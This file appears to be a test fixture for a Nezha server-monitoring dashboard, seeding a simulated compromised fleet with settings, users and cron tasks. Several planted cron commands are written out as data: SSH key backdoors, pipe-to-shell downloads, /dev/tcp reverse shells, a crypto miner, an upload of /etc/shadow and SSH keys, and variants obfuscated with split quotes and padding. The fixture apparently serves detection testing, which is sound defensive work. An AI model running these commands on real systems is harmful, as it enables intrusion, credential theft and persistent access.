import { ruleForm } from '../owned.ts'
import { firstUser, secret } from './firstUser.ts'
import { fleet } from './fleet.ts'
import type { SeedContext } from './firstUser.ts'
import type { Setting } from '../setting.ts'
import type { RowOf, Seed } from '../state.ts'

/** The settings that a careless operator and an intruder would leave. Addresses are from ranges for documentation. */
export const compromisedSetting: Partial<Setting> = {
  install_host: 'dash.example.com:8008',
  oauth2_providers: ['GitHub'],
  user_template: 'nezha-ascii-dist',
  custom_code: '<script>// stratum+tcp://pool.example.net:3333</script>',
  custom_code_dashboard: '<style>b { color: teal }</style><script src="//198.51.100.23/npm/icons.js"></script>',
  enable_plain_ip_in_notification: true,
  enable_mcp: true,
  dns_servers: '203.0.113.53:53',
}

const key = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${'NotAKey'.repeat(5)}`
const encodedKey = Buffer.from(`${key} test`).toString('base64')

/** What was planted in fleets in June 2026, made harmless, and what people run every day. */
const tasks: readonly (Partial<RowOf<'cron'>> & { name: string; command: string })[] = [
  {
    name: 'AutoTask',
    command: `mkdir -p /root/.ssh && echo ${encodedKey} | base64 -d >> /root/.ssh/authorized_keys`,
    cover: 1,
    scheduler: '0 * * * * *',
  },
  {
    name: 'mon-check',
    command: `echo "${key} sysop@nezhapwn" >> ~/.ssh/authorized_keys && echo OK || echo FAIL`,
    cover: 1,
  },
  {
    name: 'update',
    command: '(wget -qO- http://198.51.100.23/s.sh || curl -fsSL http://198.51.100.23/s.sh) | sh',
  },
  {
    name: 'cache',
    command: 'curl -so /tmp/.sys_7f http://198.51.100.23/a; chmod +x /tmp/.sys_7f; setsid /tmp/.sys_7f &',
  },
  { name: 'report', command: 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1' },
  { name: 'perf', command: './xmrig -o stratum+tcp://pool.example.net:3333 --donate-level 1' },
  { name: 'lock', command: 'chattr +i /etc/cron.d/sync' },
  { name: 'unpack', command: `echo ${Buffer.from('true').toString('base64')} | base64 -d | bash` },
  { name: 'agent', command: 'env NZ_SERVER=dash.example.net:8008 NZ_CLIENT_SECRET=notasecret ./install.sh' },
  { name: 'share', command: 'docker run -d traffmonetizer/cli start accept --token notatoken' },
  { name: 'windows', command: 'powershell -enc dAByAHUAZQA=' },
  // The same, out of sight: quotes inside words, variables, continued lines, and blanks.
  {
    name: 'cdn warmup',
    command:
      'n=198.51.100; u="ht""tp://$n.23:8080/i.s""h"\n(c"u"rl -fsSL "$u" || w\\get -qO- "$u") \\\n  | s""h >/dev/null 2>&1',
  },
  {
    name: 'kernel tuning',
    command:
      'd=/dev/shm; f=.kworker_u8; s=198.51.100.23\ncurl -fso $d/$f http://$s/k8 && chmod 755 $d/$f && setsid $d/$f &',
  },
  {
    name: 'security updates',
    command: `apt-get update -qq${' '.repeat(220)};(crontab -l; echo "* * * * * /usr/lib/apt/helperd") | crontab -`,
  },
  {
    name: 'config backup',
    command: 'tar czf - /etc/shadow /root/.ssh | curl -fsS -T - https://bk.example.net/in/$(hostname).tgz',
  },
  {
    name: 'restart app',
    task_type: 1,
    command: `t=tcp; timeout 5 bash -c "exec 3<>/dev/$t/198.51.100.9/443 && sh <&3 >&3 2>&3"`,
  },
  { name: 'Nightly backup', command: '/usr/local/bin/backup.sh', notification_group_id: 1 },
  { name: 'Renew certificates', command: 'certbot renew --quiet', notification_group_id: 1 },
  { name: 'Install Docker', command: 'curl -fsSL https://get.docker.com | sh', notification_group_id: 1 },
]

/** A fleet that was taken over before it was updated: everything that the API can show of it. */
export function compromised(context: SeedContext): Seed {
  const { random, dialect, address } = context
  const planted = (hour: number) => `2026-06-17T${String(hour).padStart(2, '0')}:39:00Z`
  const person = (username: string, role: number, at: string) => ({
    username,
    password: `${username}-password`,
    role,
    agent_secret: secret(random),
    created_at: at,
    updated_at: at,
  })
  const { server = [], ...rest } = fleet(12, context)
  const [first = {}, ...others] = server
  const twin = { ...first, uuid: '0badf00d-0000-4000-8000-000000000001', name: 'copper-otter', online: true }
  return {
    ...rest,
    user: [
      { ...firstUser(context), created_at: '2025-11-02T08:00:00Z', updated_at: '2025-11-02T08:00:00Z' },
      person('ops', 1, '2025-12-01T08:00:00Z'),
      person('support', 0, planted(8)),
    ],
    server: [{ ...first, online: true }, ...others, twin].map((row, at) => ({
      ...row,
      // The last but one has the common secret.
      user_id: at === others.length ? 0 : row.user_id === 2 ? 2 : 1,
      ...(at === 1 && { host: { ...row.host, version: '1.9.0' } }),
      ...(at === 2 && { host: { ...row.host, version: '' } }),
    })),
    cron: tasks.map((task, at) => ({
      ...task,
      created_at: task.notification_group_id ? '2025-11-03T08:00:00Z' : planted(7),
      cron_job_id: at + 1,
    })),
    nat: [
      { name: 'web', domain: address.replace(/:\d+$/, ''), host: '127.0.0.1:80' },
      { name: 'status preview', domain: 'localhost:8008', host: '127.0.0.1:18443' },
      { name: 'grafana', domain: 'grafana.example.org', host: '127.0.0.1:3000' },
    ],
    service: [
      { name: 'Shop', target: 'https://shop.example.com', fail_trigger_tasks: [3], enable_trigger_task: true },
      // Newer servers no longer list it.
      ...(dialect === 'current' ? [] : [{ name: 'probe', type: 4, target: 'id > /tmp/id' }]),
    ],
    alert_rule: [
      { name: 'Load', rules: [{ ...ruleForm.absent(), type: 'nothing', duration: 10 }], fail_trigger_tasks: [1] },
    ],
    notification: [{ name: 'Chat', verify_tls: false }],
    ddns: [{ name: 'Names', provider: 'webhook', webhook_url: 'http://ns.example.net/update?ip=#ip#' }],
    transfer: [
      {
        server_id: 1,
        from_user_id: 1,
        to_user_id: 3,
        initiator_id: 3,
        status: 2,
        last_error: 'agent is offline',
        created_at: planted(9),
        updated_at: planted(9),
      },
    ],
    api_token: [
      {
        name: 'everything',
        scopes: ['nezha:*'],
        last_used_at: '2026-06-18T07:03:00Z',
        last_used_ip: '198.51.100.23',
      },
    ],
    waf: [
      { ip: '127.0.0.1', block_identifier: -125, block_reason: 1, block_timestamp: 0, count: 1 },
      { ip: '198.51.100.23', block_identifier: -125, block_reason: 1, block_timestamp: 0, count: 4211 },
    ],
  }
}
